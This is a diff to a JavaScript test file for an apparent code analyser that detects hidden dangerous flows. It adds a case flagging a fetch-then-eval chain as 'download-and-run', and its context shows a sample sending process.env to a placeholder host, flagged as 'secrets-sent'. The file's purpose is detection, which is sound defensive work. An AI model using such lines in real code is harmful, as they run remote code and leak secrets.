@@ -54,6 +54,11 @@ describe('calls that are hidden in the grammar', () => {
     },
   );
 
+  it('are found where a promise hands what it is of to what runs it', () => {
+    expect(treeOf('fetch(u).then((r) => r.text()).then(eval)', 'javascript')?.flows).toEqual(['download-and-run']);
+    expect(treeOf('fetch(u).then((r) => r.text()).then(show)', 'javascript')?.flows).toEqual([]);
+  });
+
   it('are found by an environment under other names', () => {
     const code = "const p = process; const { env } = p; fetch('https://x.example', { body: JSON.stringify(env) })";
     expect(treeOf(code, 'javascript')?.flows).toEqual(['secrets-sent']);
